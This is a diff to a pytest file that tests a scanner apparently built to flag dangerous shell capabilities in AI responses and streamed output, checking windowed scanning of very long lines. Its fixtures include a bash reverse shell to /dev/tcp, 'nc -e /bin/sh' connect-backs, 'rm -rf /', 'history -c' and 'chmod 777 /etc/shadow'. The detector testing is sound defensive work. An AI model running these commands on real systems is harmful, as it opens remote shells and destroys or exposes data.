@@ -1,15 +1,18 @@
-"""A line longer than `MAX_LINE` is read in overlapping windows: no pattern is ever run over a
-longer line (whose cost could grow with the square of its length), and nothing hides after a
-cut: what stands after a long line, or inside one, is still found."""
+"""A line longer than `MAX_LINE` is read in overlapping windows: no match runs further than its
+window (a pattern's cost on a long line could grow with the square of its length), nothing
+hides after a cut (what stands after a long line, or inside one, is still found), a cut is no
+edge of the text, and no hit is found twice where windows overlap."""
 
 from __future__ import annotations
 
+import re
+from collections import Counter
 from collections.abc import Iterator
 
 import pytest
 
-from redline.redlines import capabilities, judge_response
-from redline.redlines.capabilities import MAX_LINE, Hit, line_windows, scan
+from redline.redlines import StreamMonitor, capabilities, judge_response
+from redline.redlines.capabilities import MAX_LINE, Capability, Hit, line_windows, scan
 
 CONNECT_BACK = "bash -c 'bash -i >& /dev/tcp/198.51.100.23/9001 0>&1'"
 BENIGN = "echo " + "build step done; " * 1_300  # one line of about 22,000 characters
@@ -53,19 +56,73 @@ def test_nothing_hides_after_a_long_line(response: str) -> None:
     assert judge_response(response).refused
 
 
+def _read(hits: Iterator[Hit]) -> Counter[tuple[str, int, int]]:
+    return Counter((hit.capability.name, hit.start, hit.end) for hit in hits)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        # a word glued to the one before it, where the second window starts
+        "a" * (MAX_LINE // 2) + "rm -rf / ; " + "b" * MAX_LINE,
+        "a" * (MAX_LINE // 2) + "nc -e /bin/sh 198.51.100.7 9001; " + "b" * MAX_LINE,
+        # a word glued to the one after it, where the first window ends
+        "c" * (MAX_LINE - len("; history -c")) + "; history -cx" + " d" * MAX_LINE,
+        "c" * (MAX_LINE - len(" chmod 777 /etc/shadow"))
+        + " chmod 777 /etc/shadow0 "
+        + "d" * MAX_LINE,
+    ],
+    ids=["start-rm", "start-nc", "end-history", "end-shadow"],
+)
+def test_a_cut_is_no_edge(line: str) -> None:
+    """A hit that a window's start or end would make (`\\b`, `^`, a lookbehind or `$` read at
+    the cut as the text's edge) and the whole line does not hold is not reported."""
+    assert _read(scan(line)) == _read(capabilities._scan_whole(line, 0))
+
+
+@pytest.mark.parametrize("unit", [CONNECT_BACK + "; ", "nc -e /bin/sh 10.0.0.1 4444; "])
+def test_the_overlap_of_windows_gives_no_hit_twice(unit: str) -> None:
+    """Hits in the half a window that two windows share are given once: the long line gives
+    what a whole read of it gives, matches being short."""
+    line = unit * (3 * MAX_LINE // len(unit))
+    hits = _read(scan(line))
+    assert hits == _read(capabilities._scan_whole(line, 0))
+    assert len(hits) > 3 * MAX_LINE // len(unit)
+
+
 @pytest.mark.parametrize(
     "unit",
     ["Remove-Item -Recurse ", "Copy-Item $PSCommandPath ", "socket.connect("],
 )
 def test_a_crafted_line_is_read_in_windows(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
     longest = [0]
-    whole = capabilities._scan_whole
+    bounded = capabilities._bounded_matches
 
-    def spied(text: str, offset: int) -> Iterator[Hit]:
-        longest[0] = max(longest[0], *map(len, text.split("\n")))
-        return whole(text, offset)
+    def spied(
+        pattern: re.Pattern[str],
+        text: str,
+        windows: list[tuple[int, int]],
+        positions: list[int] | None,
+    ) -> Iterator[re.Match[str]]:
+        longest[0] = max(longest[0], *(end - start for start, end in windows))
+        return bounded(pattern, text, windows, positions)
 
-    monkeypatch.setattr(capabilities, "_scan_whole", spied)
+    monkeypatch.setattr(capabilities, "_bounded_matches", spied)
     response = "```powershell\n" + unit * (20_000 // len(unit)) + "\n```\n"
     assert not judge_response(response).refused
     assert 0 < longest[0] <= MAX_LINE
+
+
+def test_the_stream_cuts_an_endless_line_between_words() -> None:
+    """The stream judges an endless line in pieces, each read as a line: a piece cut inside a
+    word (`fa|rm -rf /tmp/x`) would start with a word the line does not hold."""
+    filler = ("echo ok " * MAX_LINE)[: MAX_LINE - 3] + " "
+    line = filler + "farm -rf /tmp/x; " + "echo done " * 500
+    assert line.index("rm -rf") == MAX_LINE
+    monitor = StreamMonitor()
+    for at in range(0, len(line), 64):
+        assert not monitor.feed(line[at : at + 64]).halted
+    monitor.finish()
+    found = {hit.capability for hits in monitor._found.hits.values() for hit in hits}
+    assert Capability.DELETE_FILE not in found
+    assert Capability.DELETE_FILE not in {hit.capability for hit in scan(line)}
